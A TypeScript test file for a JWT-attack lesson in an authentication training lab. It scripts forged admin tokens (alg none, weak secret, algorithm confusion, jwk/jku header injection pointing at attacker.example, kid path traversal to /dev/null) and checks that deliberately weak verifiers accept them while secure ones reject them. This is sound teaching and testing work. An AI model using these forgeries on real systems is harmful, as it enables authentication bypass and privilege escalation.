import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey } from 'node:crypto';
import { DEMO_USERS } from '@authlab/shared';
import jwt from 'jsonwebtoken';
import { expect } from 'vitest';
import type { Learner } from './learner.js';
import { describeLessonSteps } from './lesson-steps.js';

type Json = Record<string, unknown>;
type Path = (learner: Learner) => Promise<void>;
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (part: string) => JSON.parse(Buffer.from(part, 'base64url').toString()) as Json;

/** "POST /api/lab/<exercise>/token → Use this token as my current token". */
async function startFrom(learner: Learner, exercise: string): Promise<void> {
  const response = await learner.send('POST', `/api/lab/${exercise}/token`, { as: 'none' });
  learner.useToken((response.body as { token: string }).token);
}

/** The token editor: header and payload changed, then signed as chosen (HS256 with a key, or none). */
function edit(
  learner: Learner,
  change: { header?: Json; claims?: Json },
  signing: { hs256: string | Buffer } | 'none' | 'keep',
): void {
  const [headerPart, payloadPart, signature] = learner.token!.split('.');
  const header = { ...decode(headerPart!), ...change.header };
  const claims = { ...decode(payloadPart!), ...change.claims };
  if (signing === 'none') {
    learner.useToken(`${b64({ ...header, alg: 'none' })}.${b64(claims)}.`);
  } else if (signing === 'keep') {
    learner.useToken(`${b64(header)}.${b64(claims)}.${signature}`);
  } else {
    const input = `${b64({ ...header, alg: 'HS256' })}.${b64(claims)}`;
    learner.useToken(
      `${input}.${createHmac('sha256', signing.hs256).update(input).digest('base64url')}`,
    );
  }
}

/** "Send it to" the weak verifier, then the secure one, with the current token. */
async function sendToBoth(learner: Learner, exercise: string, expected?: [number, number]) {
  const weak = await learner.send('GET', `/api/lab/${exercise}/weak`);
  const secure = await learner.send('GET', `/api/lab/${exercise}/secure`);
  if (expected) expect([weak.status, secure.status]).toEqual([...expected]);
}

/** "Sign with a private key": ES256 with a PEM or KeyObject, header and claims as edited. */
function signEs256(learner: Learner, change: { header?: Json; claims?: Json }, key: jwt.Secret) {
  const [headerPart, payloadPart] = learner.token!.split('.');
  const header = { ...decode(headerPart!), ...change.header, alg: 'ES256' };
  const claims = { ...decode(payloadPart!), ...change.claims };
  learner.useToken(jwt.sign(claims, key, { algorithm: 'ES256', header: header }));
}

async function attackerPem(learner: Learner): Promise<string> {
  const response = await learner.send('GET', '/api/lab/attacker/private-key', { as: 'none' });
  return (response.body as { pem: string }).pem;
}

/** "Secret from a public JWK": the JWKS's key as SubjectPublicKeyInfo PEM text. */
async function pemFromJwks(learner: Learner): Promise<string> {
  const response = await learner.send('GET', '/api/lab/jwks-issuer/jwks.json', { as: 'none' });
  const { keys } = response.body as { keys: JsonWebKey[] };
  return createPublicKey({ key: keys[0]!, format: 'jwk' })
    .export({ format: 'pem', type: 'spki' })
    .toString();
}

async function publicPem(learner: Learner): Promise<string> {
  const response = await learner.send('GET', '/api/lab/issuer/public-key', { as: 'none' });
  return (response.body as { pem: string }).pem;
}

/** The request builder's "Send as admin": the current token stays what it was. */
async function sendAsAdmin(learner: Learner, method: string, path: string, body?: unknown) {
  const admin = DEMO_USERS.find((user) => user.role === 'admin')!;
  const signIn = await learner.send('POST', '/api/auth/signin', {
    as: 'none',
    body: { username: admin.username, password: admin.password },
  });
  const token = (signIn.body as { accessToken: string }).accessToken;
  return learner.send(method, path, { as: { authorization: `Bearer ${token}` }, body });
}

/** The lab tokens live five minutes: six minutes on, they have expired. */
const moveClockPastExpiry = async (learner: Learner) => {
  expect((await sendAsAdmin(learner, 'POST', '/api/clock/advance', { seconds: 360 })).status).toBe(
    200,
  );
};
const resetClock = async (learner: Learner) => {
  expect((await sendAsAdmin(learner, 'POST', '/api/clock/reset')).status).toBe(200);
};

/** What every lab step must resist: the lab's own token, no token, garbage, half an attack. */
function lazyPaths(exercise: string, forge: Path): Record<string, Path> {
  return {
    'the legitimate lab token, sent to both': async (learner) => {
      await startFrom(learner, exercise);
      await sendToBoth(learner, exercise);
    },
    'no token, sent to both': async (learner) => {
      await learner.send('GET', `/api/lab/${exercise}/weak`, { as: 'none' });
      await learner.send('GET', `/api/lab/${exercise}/secure`, { as: 'none' });
    },
    'garbage, sent to both': async (learner) => {
      learner.useToken('garbage.garbage.garbage');
      await sendToBoth(learner, exercise);
    },
    'the forgery sent to the weak verifier only': async (learner) => {
      await forge(learner);
      await learner.send('GET', `/api/lab/${exercise}/weak`);
    },
    'the forgery to the weak verifier, the legitimate token to the secure one': async (learner) => {
      await forge(learner);
      await learner.send('GET', `/api/lab/${exercise}/weak`);
      await startFrom(learner, exercise);
      await learner.send('GET', `/api/lab/${exercise}/secure`);
    },
  };
}

/** Role admin, the issuer's signature kept: the unverified-signature attack, and nothing more. */
const keepSignature =
  (exercise: string): Path =>
  async (learner) => {
    await startFrom(learner, exercise);
    edit(learner, { claims: { role: 'admin' } }, 'keep');
  };

/** A forgery made for another exercise's flaw, sent to this exercise's verifiers. */
const forgedForAnother =
  (forge: Path, exercise: string): Path =>
  async (learner) => {
    await forge(learner);
    await sendToBoth(learner, exercise);
  };

const forgeUnverified = keepSignature('unverified-signature');
const forgeAlgNone = async (learner: Learner) => {
  await startFrom(learner, 'alg-none');
  edit(learner, { claims: { role: 'admin' } }, 'none');
};
const forgeWeakSecret = async (learner: Learner) => {
  await startFrom(learner, 'weak-secret');
  edit(learner, { claims: { role: 'admin' } }, { hs256: 'secret' });
};
const forgeConfusion = async (learner: Learner) => {
  const pem = await publicPem(learner);
  await startFrom(learner, 'algorithm-confusion');
  edit(learner, { claims: { role: 'admin' } }, { hs256: pem });
};
/** "Generate a new ES256 key pair", "Put its public key in the header (jwk)". */
const forgeJwk = async (learner: Learner) => {
  const mine = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
  await startFrom(learner, 'jwk-injection');
  signEs256(
    learner,
    { header: { jwk: mine.publicKey.export({ format: 'jwk' }) }, claims: { role: 'admin' } },
    mine.privateKey,
  );
};
const ATTACKER_JKU = 'http://127.0.0.1:3000/api/lab/attacker/jwks.json';
const forgeJku = async (learner: Learner) => {
  const pem = await attackerPem(learner);
  await startFrom(learner, 'jku-injection');
  signEs256(learner, { header: { jku: ATTACKER_JKU }, claims: { role: 'admin' } }, pem);
};
const forgeConfusionJwk = async (learner: Learner) => {
  const pem = await pemFromJwks(learner);
  await startFrom(learner, 'algorithm-confusion-jwk');
  edit(learner, { claims: { role: 'admin' } }, { hs256: pem });
};
const forgeKid = async (learner: Learner) => {
  await startFrom(learner, 'kid-path-traversal');
  edit(
    learner,
    { header: { kid: '../../../../dev/null' }, claims: { role: 'admin' } },
    { hs256: Buffer.alloc(0) },
  );
};
/** The expiry "forgery" is no forgery: the legitimate token, replayed once it has expired. */
const expireLabToken = async (learner: Learner) => {
  await startFrom(learner, 'ignored-expiry');
  await moveClockPastExpiry(learner);
};

describeLessonSteps('09-attacking-jwts.md', {
  'unverified-signature': {
    solution: async (learner) => {
      await forgeUnverified(learner);
      await sendToBoth(learner, 'unverified-signature', [200, 401]);
    },
    lazy: {
      ...lazyPaths('unverified-signature', forgeUnverified),
      'an alg-none forgery (another attack), sent to both': forgedForAnother(async (learner) => {
        await startFrom(learner, 'unverified-signature');
        edit(learner, { claims: { role: 'admin' } }, 'none');
      }, 'unverified-signature'),
      'the old signature kept, role still user': async (learner) => {
        await startFrom(learner, 'unverified-signature');
        edit(learner, { claims: { username: 'someone-else' } }, 'keep');
        await sendToBoth(learner, 'unverified-signature');
      },
    },
  },
  'alg-none': {
    solution: async (learner) => {
      await forgeAlgNone(learner);
      await sendToBoth(learner, 'alg-none', [200, 401]);
    },
    lazy: {
      ...lazyPaths('alg-none', forgeAlgNone),
      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
        keepSignature('alg-none'),
        'alg-none',
      ),
      'alg none but still role user': async (learner) => {
        await startFrom(learner, 'alg-none');
        edit(learner, {}, 'none');
        await sendToBoth(learner, 'alg-none');
      },
    },
  },
  'weak-secret': {
    solution: async (learner) => {
      await forgeWeakSecret(learner);
      await sendToBoth(learner, 'weak-secret', [200, 401]);
    },
    lazy: {
      ...lazyPaths('weak-secret', forgeWeakSecret),
      'an alg-none forgery (another attack), sent to both': forgedForAnother(async (learner) => {
        await startFrom(learner, 'weak-secret');
        edit(learner, { claims: { role: 'admin' } }, 'none');
      }, 'weak-secret'),
      'the exercise token (already signed with "secret"), re-signed unchanged': async (learner) => {
        await startFrom(learner, 'weak-secret');
        edit(learner, {}, { hs256: 'secret' });
        await sendToBoth(learner, 'weak-secret');
      },
    },
  },
  'jwk-injection': {
    solution: async (learner) => {
      await forgeJwk(learner);
      await sendToBoth(learner, 'jwk-injection', [200, 401]);
    },
    lazy: {
      ...lazyPaths('jwk-injection', forgeJwk),
      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
        keepSignature('jwk-injection'),
        'jwk-injection',
      ),
      'a jwk in the header, signed by another key': async (learner) => {
        const embedded = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
        const signer = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
        await startFrom(learner, 'jwk-injection');
        signEs256(
          learner,
          {
            header: { jwk: embedded.publicKey.export({ format: 'jwk' }) },
            claims: { role: 'admin' },
          },
          signer.privateKey,
        );
        await sendToBoth(learner, 'jwk-injection');
      },
      'signed with an own key, but no jwk in the header': async (learner) => {
        const mine = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
        await startFrom(learner, 'jwk-injection');
        signEs256(learner, { claims: { role: 'admin' } }, mine.privateKey);
        await sendToBoth(learner, 'jwk-injection');
      },
    },
  },
  'jku-injection': {
    solution: async (learner) => {
      await forgeJku(learner);
      await sendToBoth(learner, 'jku-injection', [200, 401]);
    },
    lazy: {
      ...lazyPaths('jku-injection', forgeJku),
      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
        keepSignature('jku-injection'),
        'jku-injection',
      ),
      'a jku that points anywhere but the lab': async (learner) => {
        const pem = await attackerPem(learner);
        await startFrom(learner, 'jku-injection');
        signEs256(
          learner,
          { header: { jku: 'https://attacker.example/jwks.json' }, claims: { role: 'admin' } },
          pem,
        );
        await sendToBoth(learner, 'jku-injection');
      },
      "the attacker's jku, signed with another key": async (learner) => {
        const other = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
        await startFrom(learner, 'jku-injection');
        signEs256(
          learner,
          { header: { jku: ATTACKER_JKU }, claims: { role: 'admin' } },
          other.privateKey,
        );
        await sendToBoth(learner, 'jku-injection');
      },
    },
  },
  'kid-path-traversal': {
    solution: async (learner) => {
      await forgeKid(learner);
      await sendToBoth(learner, 'kid-path-traversal', [200, 401]);
    },
    lazy: {
      ...lazyPaths('kid-path-traversal', forgeKid),
      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
        keepSignature('kid-path-traversal'),
        'kid-path-traversal',
      ),
      'an empty key with the issuer kid': async (learner) => {
        await startFrom(learner, 'kid-path-traversal');
        edit(learner, { claims: { role: 'admin' } }, { hs256: Buffer.alloc(0) });
        await sendToBoth(learner, 'kid-path-traversal');
      },
      'an unknown plain kid with an empty key (no such file)': async (learner) => {
        await startFrom(learner, 'kid-path-traversal');
        edit(
          learner,
          { header: { kid: 'null' }, claims: { role: 'admin' } },
          { hs256: Buffer.alloc(0) },
        );
        await sendToBoth(learner, 'kid-path-traversal');
      },
    },
  },
  'algorithm-confusion': {
    solution: async (learner) => {
      await forgeConfusion(learner);
      await sendToBoth(learner, 'algorithm-confusion', [200, 401]);
    },
    lazy: {
      ...lazyPaths('algorithm-confusion', forgeConfusion),
      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
        keepSignature('algorithm-confusion'),
        'algorithm-confusion',
      ),
      'an admin token signed with a secret that is not the PEM': async (learner) => {
        await startFrom(learner, 'algorithm-confusion');
        edit(learner, { claims: { role: 'admin' } }, { hs256: 'secret' });
        await sendToBoth(learner, 'algorithm-confusion');
      },
    },
  },
  'algorithm-confusion-jwk': {
    solution: async (learner) => {
      await forgeConfusionJwk(learner);
      await sendToBoth(learner, 'algorithm-confusion-jwk', [200, 401]);
    },
    lazy: {
      ...lazyPaths('algorithm-confusion-jwk', forgeConfusionJwk),
      'role admin, old signature kept (another attack), sent to both': forgedForAnother(
        keepSignature('algorithm-confusion-jwk'),
        'algorithm-confusion-jwk',
      ),
      "the other issuer's PEM as the secret": async (learner) => {
        const pem = await publicPem(learner);
        await startFrom(learner, 'algorithm-confusion-jwk');
        edit(learner, { claims: { role: 'admin' } }, { hs256: pem });
        await sendToBoth(learner, 'algorithm-confusion-jwk');
      },
      'the JWK itself, as JSON text, as the secret': async (learner) => {
        const response = await learner.send('GET', '/api/lab/jwks-issuer/jwks.json', {
          as: 'none',
        });
        const { keys } = response.body as { keys: JsonWebKey[] };
        await startFrom(learner, 'algorithm-confusion-jwk');
        edit(learner, { claims: { role: 'admin' } }, { hs256: JSON.stringify(keys[0]) });
        await sendToBoth(learner, 'algorithm-confusion-jwk');
      },
    },
  },
  'ignored-expiry': {
    solution: async (learner) => {
      await expireLabToken(learner);
      await sendToBoth(learner, 'ignored-expiry', [200, 401]);
      await resetClock(learner);
    },
    lazy: {
      ...lazyPaths('ignored-expiry', expireLabToken),
      // Every path that moved the clock puts it back, so the next learner starts on the real clock.
      'the legitimate token, the clock moved, sent to both': async (learner) => {
        await startFrom(learner, 'ignored-expiry');
        await moveClockPastExpiry(learner);
        await startFrom(learner, 'ignored-expiry');
        await sendToBoth(learner, 'ignored-expiry');
        await resetClock(learner);
      },
      'an alg-none forgery (another attack) after the clock moved': async (learner) => {
        await forgeAlgNone(learner);
        await moveClockPastExpiry(learner);
        await sendToBoth(learner, 'ignored-expiry');
        await resetClock(learner);
      },
      'a writer may not move the clock (403)': async (learner) => {
        await startFrom(learner, 'ignored-expiry');
        await learner.signIn('writer');
        await learner.send('POST', '/api/clock/advance', { body: { seconds: 360 } });
        await startFrom(learner, 'ignored-expiry');
        await sendToBoth(learner, 'ignored-expiry');
      },
    },
  },
});
